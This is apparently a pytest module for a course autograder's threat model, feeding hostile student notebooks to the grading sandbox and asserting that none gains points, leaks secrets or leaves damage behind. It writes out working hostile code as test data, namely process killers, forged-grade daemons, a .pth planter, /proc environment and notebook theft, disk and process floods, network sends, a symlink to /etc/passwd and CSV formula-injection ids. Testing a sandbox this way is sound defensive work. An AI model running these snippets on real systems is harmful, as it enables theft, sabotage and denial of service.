"""The threat model of the autograder: each hostile submission gets its own test.

Every student here submits assignment 03 (four graded functions, 5 points each),
all in one run of the instructor's command (``python -m grader autograde``).
None of the hostile tricks may earn a point an empty notebook does not earn,
hang grading, change the grade of ``honest`` (the sample solutions), change a
file in the submissions folder, or leave a process behind.
"""

import csv
import functools
import hashlib
import os
import socket
import stat
import sys
import time
from collections import defaultdict
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from grader.__main__ import main
from grader.feedback import csv_cell
from grader import schedule
from grader.sandbox import Limits

from .conftest import load_sample_class_builder, sandbox_processes

ASSIGNMENT, NOTEBOOK = "03_pooling", "pooling"
TASKS = ("max_pool_forward", "max_pool_backward", "avg_pool_forward", "avg_pool_backward")
TARGET = "max_pool_forward_naive"


@dataclass
class ShortLimits(Limits):
    """What the instructor's command uses in this run: the attacks about time end sooner."""

    load_seconds: float = 6
    call_seconds: float = 3
    notebook_seconds: float = 15
    student_seconds: float = 25


SECRET = "HOSTILE_PROBE_SECRET"  # in the grader's environment during the run

build = load_sample_class_builder()
SOLVED = build.solution_sources(ASSIGNMENT)


def with_target(code):
    """The full solutions, with max_pool_forward_naive replaced by ``code``."""
    return {**SOLVED, TARGET: code}


def prepend(code):
    """The correct max_pool_forward_naive with ``code`` in front of it, in the same cell."""
    return with_target(code + "\n" + SOLVED[TARGET])


def body(lines):
    return with_target("def max_pool_forward_naive(x, pool_param):\n" + "\n".join(
        "    " + line for line in lines))


def cheat_patch():
    return """
import numpy as np
import grader, grader.checks, grader.diagnosis.judge, conv_lib
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
grader.checks.grade = lambda task, fn, points, seed=None: points
grader.diagnosis.judge.judge = lambda *a, **k: None
conv_lib.max_pool_forward_fast = lambda x, p: (np.zeros(1), None)
"""


def make(sources, extra_cell=None, edit_tests=None, last_cells=()):
    notebook = build.submission(ASSIGNMENT, NOTEBOOK, sources)
    if extra_cell:
        notebook.cells.insert(2, nbformat.v4.new_code_cell(extra_cell))
    notebook.cells += [nbformat.v4.new_code_cell(code) for code in last_cells]
    if edit_tests == "delete":
        notebook.cells = [c for c in notebook.cells
                          if not c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")]
    elif edit_tests == "claim":
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_"):
                cell.source = "5"
    return notebook


# student -> (notebook, the points they must get per task)
FULL = dict.fromkeys(TASKS, 5.0)
ZERO = dict.fromkeys(TASKS, 0.0)
ALL_BUT_TARGET = {**FULL, "max_pool_forward": 0.0}
STUDENTS = {
    "honest": (make(SOLVED), FULL),
    "empty": (make(None), ZERO),
    "looper": (make(body(["while True:", "    pass"])), ALL_BUT_TARGET),
    "sleeper": (make(prepend("import time\ntime.sleep(10 ** 6)")), ALL_BUT_TARGET),
    "hog": (make(body(["import numpy as np", "hoard = [np.ones(10 ** 9) for _ in range(100)]",
                       "return hoard"])), ALL_BUT_TARGET),
    "exiter": (make(body(["import os", "os._exit(3)"])), ALL_BUT_TARGET),
    "quitter": (make(with_target(SOLVED[TARGET] + "\nraise SystemExit(0)")), FULL),
    "printer": (make(body(["print('x' * 10 ** 7)", "import sys",
                           "sys.stderr.write('y' * 10 ** 6)", "raise NotImplementedError()"])),
                ALL_BUT_TARGET),
    "test_editor": (make(None, edit_tests="claim"), ZERO),
    "test_deleter": (make(SOLVED, edit_tests="delete"), FULL),
    "patcher": (make(None, extra_cell=cheat_patch()), ZERO),
    "cheater": (make(body(["from conv_lib import max_pool_forward_fast",
                           "return max_pool_forward_fast(x, pool_param)"])), ALL_BUT_TARGET),
}
# What each one's feedback must say, so the student knows what happened.
FEEDBACK = {
    "looper": "did not finish within 3 s",
    "sleeper": "did not finish within 6 s; it was skipped",
    "hog": "MemoryError",
    "exiter": "ended the grading process",
    "quitter": "raised SystemExit",
    "cheater": "is not available while this task is graded",
    "empty": "not implemented yet",
    "test_editor": "(edited). Grading always uses the course",
    "test_deleter": "test_max_pool_forward (deleted)",
    "patcher": "does not affect how your functions are judged",
}


# The attacks of issue 10. Each knows the real paths (@ROOT@: the run's folder with
# submitted/ and out/; @REPO@: the course; @SITE@: the grader's site-packages), as a
# student who guessed them would: the sandbox must hold even so.
FIND_NOTEBOOKS = r"""
import glob, os
def _classmates_notebooks():
    roots = ["@ROOT@/submitted"]
    for pid in os.listdir("/proc"):
        for link in ("cwd", "root"):
            try:
                roots.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            roots += open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\0")
        except OSError:
            pass
    found = set()
    for root in roots:
        found |= set(glob.glob(os.path.join(root, "honest", "*", "*.ipynb")))
    return sorted(found)
"""
PLAGIARIST = FIND_NOTEBOOKS + r"""
import json
_stolen = {}
for _path in _classmates_notebooks():
    for _cell in json.load(open(_path))["cells"]:
        try:
            exec("".join(_cell["source"]), _stolen)
        except Exception:
            pass
globals().update({k: v for k, v in _stolen.items() if k.endswith("_naive")})
"""
SABOTEUR = FIND_NOTEBOOKS + r"""
for _path in _classmates_notebooks():
    for _how in ("w", "a"):
        try:
            open(_path, _how).write("{}")
        except OSError:
            pass
for _path in ("@ROOT@/out/grades.csv", "@ROOT@/submitted/honest"):
    try:
        os.remove(_path)
    except OSError:
        pass
"""
DAEMON = r"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 90
        while time.time() < end:
            for path in ["@ROOT@/out/grades.csv"] + [f"/proc/{p}/cwd/grades.csv" for p in os.listdir("/proc")]:
                try:
                    with open(path, "a") as handle:
                        handle.write("daemon,03_pooling,pooling,test_max_pool_forward,5.0,5,FORGED\n")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
"""
PTH_PLANTER = r"""
import glob, os, sys, numpy
_places = {os.path.dirname(os.path.dirname(numpy.__file__)), "@SITE@", sys.base_prefix,
           *glob.glob(sys.base_prefix + "/lib/python3*/site-packages"), *sys.path}
for _place in _places:
    try:
        with open(os.path.join(_place, "zz_hostile.pth"), "w") as _handle:
            _handle.write("import os; open('@ROOT@/pth-ran', 'w').write('ran')\n")
    except OSError:
        pass
"""
KILLER = r"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    end = time.time() + 30
    while time.time() < end:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)
time.sleep(1)
"""
PARENT_STOPPER = r"""
import os, signal
for _signal in (signal.SIGSTOP, signal.SIGKILL):
    for _target in (os.getppid(), 1, -1):
        try:
            os.kill(_target, _signal)
        except OSError:
            pass
"""
LEAKER_CELLS = [
    r"""
import glob
_text = "".join(open(p).read() for p in glob.glob("@REPO@/solutions/*/*.ipynb"))
raise RuntimeError("LEAK1 " + (_text[_text.find("def convnet_loss"):][:200] or "nothing").replace("\n", " "))
""",
    r"""
import os
_seen = [open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode() for p in os.listdir("/proc") if p.isdigit()]
raise RuntimeError("LEAK2 " + " | ".join(_seen))
""",
    r"""
import os
_environ = dict(os.environ)
for _p in os.listdir("/proc"):
    try:
        _environ[_p] = open(f"/proc/{_p}/environ", "rb").read().decode(errors="ignore")
    except OSError:
        pass
raise RuntimeError("LEAK3 " + repr(_environ))
""",
]
REIMPORTER = r"""
import glob, importlib, importlib.util, sys

def _fast(name):
    for module in [m for m in sys.modules if m.startswith("conv_lib")]:
        del sys.modules[module]
    importlib.invalidate_caches()
    candidates = glob.glob("@REPO@/conv_lib/pool.py") + [p + "/conv_lib/pool.py" for p in sys.path]
    for path in candidates:
        try:
            spec = importlib.util.spec_from_file_location("stolen_pool", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return getattr(module, name)
        except Exception:
            pass
    return getattr(importlib.import_module("conv_lib"), name)

def max_pool_forward_naive(x, pool_param):
    return _fast("max_pool_forward_fast")(x, pool_param)

def max_pool_backward_naive(dout, cache):
    return _fast("max_pool_backward_fast")(dout, cache)

def avg_pool_forward_naive(x, pool_param):
    return _fast("avg_pool_forward_fast")(x, pool_param)

def avg_pool_backward_naive(dout, cache):
    return _fast("avg_pool_backward_fast")(dout, cache)
"""
PIPE_HOLDER = ["import os, time", "if os.fork() == 0:", "    os.setsid()", "    time.sleep(1000)",
               "os._exit(1)"]
KEEPALIVE = r"""
import json, os, struct, time
_frame = json.dumps({"type": "loading", "cell": 0, "values": [], "blobs": 0}).encode()
_end = time.time() + 60
while time.time() < _end:
    for _fd in range(3, 12):
        try:
            os.write(_fd, struct.pack("<Q", len(_frame)) + _frame)
        except OSError:
            pass
    time.sleep(0.3)
"""
BLOB_AMPLIFIER = ["import io, json, os, struct", "import numpy as np", "buffer = io.BytesIO()",
                  "np.save(buffer, np.zeros(2 * 2 ** 20))  # 16 MiB",
                  "blob = buffer.getvalue()",
                  "items = [{'kind': 'array', 'blob': 0}] * 1000  # 16 GB if each were decoded",
                  "header = json.dumps({'type': 'result', 'status': 'ok', 'blobs': 1, 'values': "
                  "[{'kind': 'tuple', 'items': [{'kind': 'list', 'items': items}, "
                  "{'kind': 'plain', 'value': None}]}]}).encode()",
                  "message = struct.pack('<Q', len(header)) + header + struct.pack('<Q', len(blob)) + blob",
                  "for fd in range(3, 12):",
                  "    try:",
                  "        os.write(fd, message)",
                  "    except OSError:",
                  "        pass",
                  "os._exit(0)"]
PROCESS_FLOOD = ["import os, resource, subprocess, time",
                 "try:",
                 "    resource.setrlimit(resource.RLIMIT_NPROC, (10 ** 6, 10 ** 6))",
                 "except (ValueError, OSError):",
                 "    pass",
                 "for _ in range(200):",
                 "    try:",
                 "        subprocess.Popen(['sleep', '1000'], start_new_session=True)",
                 "    except OSError:",
                 "        break",
                 "for _ in range(3):",
                 "    try:",
                 "        if os.fork() == 0:",
                 "            os.setsid()",
                 "            hoard = bytearray(512 * 2 ** 20)",
                 "            time.sleep(1000)",
                 "    except OSError:",
                 "        pass",
                 "return None"]
DISK_FLOOD = ["import os",
              "for path in ['/tmp/flood', 'flood', '/dev/shm/flood', '/flood', '@ROOT@/flood']:",
              "    try:",
              "        with open(path, 'wb') as handle:",
              "            for _ in range(2048):",
              "                handle.write(bytes(2 ** 20))",
              "    except OSError:",
              "        pass",
              "for i in range(1000):",
              "    try:",
              "        with open(f'/tmp/many{i}', 'wb') as handle:",
              "            handle.write(bytes(8 * 2 ** 20))",
              "    except OSError:",
              "        break",
              "return None"]
TERMINAL_WRITER = r"""
import os
for _pid in os.listdir("/proc"):
    for _fd in ("0", "1", "2"):
        try:
            with open(f"/proc/{_pid}/fd/{_fd}", "w") as _handle:
                _handle.write("\nFORGED-SUMMARY honest 0/20\n")
        except OSError:
            pass
for _path in ("/dev/tty", "/dev/console", "/dev/stdout", "/dev/stderr"):
    try:
        with open(_path, "w") as _handle:
            _handle.write("\nFORGED-SUMMARY honest 0/20\n")
    except OSError:
        pass
"""
NETWORK = r"""
import socket
_sent = []
for _address in (("127.0.0.1", @PORT@), ("8.8.8.8", 53)):
    try:
        socket.create_connection(_address, timeout=1).sendall(b"hidden cases")
        _sent.append(_address)
    except OSError:
        pass
raise RuntimeError(f"NET sent to {_sent}")
"""
LOOTER = r"""
import glob, importlib
_loot = []
for _module in ("grader.diagnosis.reference", "grader.checks", "grader.diagnosis.cases", "scipy.signal"):
    try:
        importlib.import_module(_module)
        _loot.append(_module)
    except Exception:
        pass
for _root in ("/sandbox", "/tmp", "/root", "/work", "/home", "/srv", "/opt"):
    _loot += glob.glob(_root + "/**/*.ipynb", recursive=True)
raise RuntimeError(f"LOOT {_loot or 'none'}")
"""


def hostile_students(paths):
    """student -> (notebook or a callable making the file, points per task, feedback text)."""
    def fill(code):
        for key, value in paths.items():
            code = code.replace(f"@{key}@", str(value))
        return code

    def lines(code_lines):
        return body([fill(line) for line in code_lines])

    return {
        "daemon": (make(None, fill(DAEMON)), ZERO, None),
        "pth_planter": (make(None, fill(PTH_PLANTER)), ZERO, None),
        "plagiarist": (make(None, last_cells=[fill(PLAGIARIST)]), ZERO, None),
        "saboteur": (make(None, fill(SABOTEUR)), ZERO, None),
        "killer": (make(None, fill(KILLER)), ZERO, None),
        "parent_stopper": (make(None, fill(PARENT_STOPPER)), ZERO, None),
        "leaker": (make(None, last_cells=[fill(c) for c in LEAKER_CELLS]), ZERO, "LEAK1 nothing"),
        "reimporter": (make(None, last_cells=[fill(REIMPORTER)]), ZERO,
                       "is not available while this task is graded"),
        "pipe_holder": (make(lines(PIPE_HOLDER)), ALL_BUT_TARGET, "ended the grading process"),
        "keepalive": (make(None, fill(KEEPALIVE)), ZERO, "did not finish within 6 s; it was skipped"),
        "slow_cells": (make(SOLVED, last_cells=["import time\ntime.sleep(2)"] * 8), ZERO,
                       "grading time for this notebook ran out"),
        "blob_amplifier": (make(lines(BLOB_AMPLIFIER)), ALL_BUT_TARGET, None),
        "process_flood": (make(lines(PROCESS_FLOOD)), ALL_BUT_TARGET, None),
        "disk_flood": (make(lines(DISK_FLOOD)), ALL_BUT_TARGET, None),
        "terminal_writer": (make(None, fill(TERMINAL_WRITER)), ZERO, None),
        "network": (make(None, fill(NETWORK)), ZERO, "NET sent to []"),
        "looter": (make(None, fill(LOOTER)), ZERO, "LOOT none"),
        "fifo": (lambda path: os.mkfifo(path), ZERO, "is a FIFO, not a notebook file"),
        "copier": (lambda path: os.symlink(paths["ROOT"] / "submitted" / "honest" / ASSIGNMENT
                                           / f"{NOTEBOOK}.ipynb", path), ZERO, "symbolic link"),
        "passwd": (lambda path: os.symlink("/etc/passwd", path), ZERO, "symbolic link"),
        "@SUM": (make(None), ZERO, None),
        "+cmd": (make(None), ZERO, None),
        "-2+3": (make(None), ZERO, None),
    }


def tree_digest(folder):
    """A digest of every entry under ``folder``: names, kinds, link targets, contents."""
    digest = hashlib.sha256()
    for path in sorted(Path(folder).rglob("*")):
        info = path.lstat()
        digest.update(f"{path}:{stat.S_IFMT(info.st_mode)}:{info.st_mode}".encode())
        if stat.S_ISLNK(info.st_mode):
            digest.update(os.readlink(path).encode())
        elif stat.S_ISREG(info.st_mode):
            digest.update(path.read_bytes())
    return digest.hexdigest()


@functools.cache
def site_packages_listing():
    return sorted(p.name for p in Path(sys.prefix).glob("lib/python3*/site-packages/*.pth")) + sorted(
        p.name for p in Path(sys.base_prefix).glob("lib/python3*/site-packages/*.pth"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    paths = {"ROOT": root, "REPO": build.ROOT, "PORT": listener.getsockname()[1],
             "SITE": next(Path(sys.prefix).glob("lib/python3*/site-packages"))}
    expected = {student: points for student, (_, points) in STUDENTS.items()}
    messages = dict(FEEDBACK)
    makers = {student: notebook for student, (notebook, _) in STUDENTS.items()}
    for student, (maker, points, text) in hostile_students(paths).items():
        makers[student], expected[student] = maker, points
        if text:
            messages[student] = text
    for student, maker in makers.items():
        path = root / "submitted" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
        path.parent.mkdir(parents=True)
        if callable(maker):
            maker(path)
        else:
            nbformat.write(maker, str(path))
    os.symlink(root / "submitted" / "honest", root / "submitted" / "twin")  # a linked folder
    expected["twin"], messages["twin"] = ZERO, "symbolic link"
    before = tree_digest(root / "submitted")
    pth_before = site_packages_listing.__wrapped__()

    # The run as the instructor starts it, its terminal output captured at the fd level
    # (where a worker writing to the grader's /proc/<pid>/fd/1 would land).
    terminal = root / "terminal.txt"
    saved = [os.dup(1), os.dup(2)]
    with pytest.MonkeyPatch.context() as patch, open(terminal, "w") as sink:
        patch.setenv(SECRET, "topsecret-42")
        patch.setattr(schedule, "Limits", ShortLimits)  # what the command line builds
        patch.setattr(sys, "stdout", sink)
        os.dup2(sink.fileno(), 1)
        os.dup2(sink.fileno(), 2)
        start = time.perf_counter()
        try:
            code = main(["autograde", str(root / "submitted"), "--out", str(root / "out"),
                         "--jobs", "2", "--seed", "5", "--no-progress"])
        finally:
            elapsed = time.perf_counter() - start
            sys.stdout.flush()
            os.dup2(saved[0], 1)
            os.dup2(saved[1], 2)
            for fd in saved:
                os.close(fd)
    grades = (root / "out" / "grades.csv").read_text()
    time.sleep(1.5)  # time for anything left behind to strike
    after = {"grades": (root / "out" / "grades.csv").read_text(), "processes": sandbox_processes(),
             "submitted": tree_digest(root / "submitted"), "pth": site_packages_listing.__wrapped__(),
             "connections": _accepted(listener)}
    listener.close()
    scores = defaultdict(dict)
    for row in csv.DictReader(grades.splitlines()):
        if row["grade_id"].startswith("test_"):
            scores[row["student_id"]][row["grade_id"][5:]] = float(row["score"])
    pages = {s: (root / "out" / "feedback" / s / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()
             for s in expected}
    return dict(code=code, elapsed=elapsed, scores=scores, pages=pages, expected=expected,
                messages=messages, grades=grades, after=after, before=before,
                pth_before=pth_before, terminal=terminal.read_text(), root=root)


def _accepted(listener):
    try:
        connection, _ = listener.accept()
    except BlockingIOError:
        return 0
    connection.close()
    return 1


def test_each_hostile_submission_gets_only_what_its_honest_parts_earn(graded):
    wrong = {}
    for student, points in graded["expected"].items():
        got = graded["scores"][csv_cell(student)]
        if got != points:
            wrong[student] = got
        elif student in graded["messages"] and graded["messages"][student] not in graded["pages"][student]:
            wrong[student] = "feedback lacks: " + graded["messages"][student]
    assert wrong == {}


def test_the_run_ends_within_its_deadline_with_exit_0(graded):
    assert graded["code"] == 0
    # The slowest students end at their deadlines instead of running on: their feedback
    # says so (checked with each student's points above). This bound only catches a hang,
    # whatever the machine's load: it is what the run would take graded one at a time with
    # every student using all of their time; a sleeper past its deadline would take 10**6 s.
    assert graded["elapsed"] < len(graded["expected"]) * ShortLimits.student_seconds


def test_nothing_is_left_behind_or_rewritten(graded):
    after = graded["after"]
    assert after["processes"] == []
    assert after["grades"] == graded["grades"] and "FORGED" not in after["grades"]
    assert after["submitted"] == graded["before"]
    assert after["pth"] == graded["pth_before"] and not (graded["root"] / "pth-ran").exists()
    assert not (graded["root"] / "flood").exists()
    assert after["connections"] == 0


def test_the_terminal_shows_the_written_summary_and_nothing_forged(graded):
    terminal = graded["terminal"]
    assert "FORGED" not in terminal
    honest_line = next(line for line in terminal.splitlines() if line.startswith("honest "))
    assert "20/20" in honest_line


def test_no_secret_reaches_the_student(graded):
    page = graded["pages"]["leaker"]
    assert "LEAK1 nothing" in page and "LEAK2" in page and "LEAK3" in page
    for secret in ("topsecret-42", "--seed", str(graded["root"]), "pytest", "BEGIN SOLUTION"):
        assert secret not in page
    assert "root:x:0:0" not in graded["pages"]["passwd"]


def test_formula_like_ids_are_text_in_the_csv(graded):
    for student in ("@SUM", "+cmd", "-2+3"):
        assert f"\n'{student}," in graded["grades"]


def test_printing_megabytes_does_not_bloat_the_feedback(graded):
    pages = graded["pages"]
    assert len(pages["printer"]) < 100_000 and "xxxxxxxxxx" not in pages["printer"]
